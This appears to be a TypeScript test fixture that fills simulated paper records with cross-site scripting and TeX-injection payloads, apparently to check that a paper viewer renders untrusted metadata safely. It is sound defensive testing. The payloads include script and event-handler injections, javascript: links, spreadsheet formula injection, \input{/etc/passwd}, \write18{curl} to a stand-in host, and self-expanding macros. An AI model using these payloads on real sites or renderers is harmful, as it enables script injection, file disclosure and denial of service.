import { simBatch, type SimPaper } from '#tests/simulators/simPapers.ts'

/** Host that only a payload requests. */
export const HOSTILE_HOST = 'hostile.example'
/** Name of the function that only a payload calls. */
export const HOSTILE_CALL = 'payloadRan'

const CALL = `${HOSTILE_CALL}()`
const URL = `https://${HOSTILE_HOST}/x`

/** HTML and SVG that run a script, load a file or open a form, if they are not shown as text. */
const HTML = [
  `<script>${CALL}</script>`,
  `<script src=${URL}></script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=${URL}>`,
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}" autofocus onfocus="${CALL}`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x">`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">read</a>`,
  `<a href="  java&#x09;script:${CALL}">read</a>`,
  `<form action="${URL}"><input autofocus onfocus=${CALL}></form>`,
  `<details open ontoggle=${CALL}>`,
  `<video src=x onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<input type=image src=x onerror=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="${URL}">`,
  `<link rel=stylesheet href=${URL}>`,
  `<style>@import url(${URL});</style>`,
  `<div style="background:url(${URL})">`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CALL}"><mi>x</mi></math>`,
  `<math><maction actiontype="statusline#${URL}" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=${CALL}></annotation-xml></semantics></math>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<scr\u0000ipt>${CALL}</script>`,
  `＜script＞${CALL}＜/script＞`,
  `<script\u00A0x>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `=HYPERLINK("${URL}","x")`,
  `[read](javascript:${CALL})`,
  `![x](${URL})`,
  `[x]: javascript:${CALL}`,
  `<javascript:${CALL}>`,
] as const

/** TeX that KaTeX or another renderer could turn into a link, an image, an attribute or work without end. */
const TEX = [
  `\\href{javascript:${CALL}}{x}`,
  `\\url{javascript:${CALL}}`,
  `\\includegraphics{${URL}}`,
  `\\htmlClass{x" onmouseover="${CALL}}{x}`,
  `\\htmlStyle{background:url(${URL})}{x}`,
  `\\htmlData{x=" onmouseover="${CALL}}{x}`,
  `\\htmlId{x" autofocus onfocus="${CALL}}{x}`,
  `\\text{<img src=x onerror=${CALL}>}`,
  `\\text{</annotation><script>${CALL}</script>}`,
  `\\unicode{x3C}script\\unicode{x3E}${CALL}`,
  `\\def\\a{\\a\\a}\\a`,
  `\\gdef\\b#1{\\b{#1#1}}\\b{x}`,
  `\\let\\c\\c \\newcommand{\\text}{${CALL}} \\text{x}`,
  `\\color{red;background:url(${URL})}x`,
  `\\rule{99999em}{99999em}`,
  `\\kern-99999em x`,
  `\\input{/etc/passwd}`,
  `\\write18{curl ${URL}}`,
  `\\csname script\\endcsname ${CALL}`,
  `\\begin{array}{${'c'.repeat(50)}}<img src=x onerror=${CALL}>\\end{array}`,
  `{${'{'.repeat(200)}x${'}'.repeat(200)}}`,
] as const

/** Ways in which a text arrives: as it is, escaped once and twice, in the middle of words. */
const FORMS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => escape(payload),
  (payload) => escape(escape(payload)),
  (payload) => payload.replaceAll('<', '&#x3c;').replaceAll('>', '&#62;'),
  (payload) => `Tides ${payload} of lanterns`,
]
const MATH: readonly ((payload: string) => string)[] = [
  (payload) => `$${payload}$`,
  (payload) => `$$${payload}$$`,
  (payload) => `\\(${payload}\\)`,
  (payload) => `\\[${payload}\\]`,
  (payload) => payload,
  (payload) => `Tides of $x + ${payload}$ lanterns`,
]

const escape = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')

/** All payloads in all forms, HTML in formulas, too. */
const payloads = [
  ...HTML.flatMap((payload) => [...FORMS, MATH[0]!, MATH[5]!].map((wrap) => wrap(payload))),
  ...TEX.flatMap((payload) => MATH.map((wrap) => wrap(payload))),
]

/** Number of different payloads in `hostilePapers`. */
export const PAYLOADS = payloads.length

/** Papers of `day` of which each text has a payload: title, abstract, authors, comment and journal. */
export function hostilePapers(day: string): SimPaper[] {
  const next = (at: number) => payloads[at % payloads.length]!
  return simBatch(Math.ceil(payloads.length / 5), day).map((paper, index) => {
    const at = index * 5
    return {
      ...paper,
      title: `${index}: ${next(at)}`,
      abstract: `Lanterns ${next(at + 1)}`,
      authors: [{ name: `Ada ${next(at + 2)}` }, { name: 'Tomás Óðinsson' }],
      comment: next(at + 3),
      journal_ref: next(at + 4),
    }
  })
}
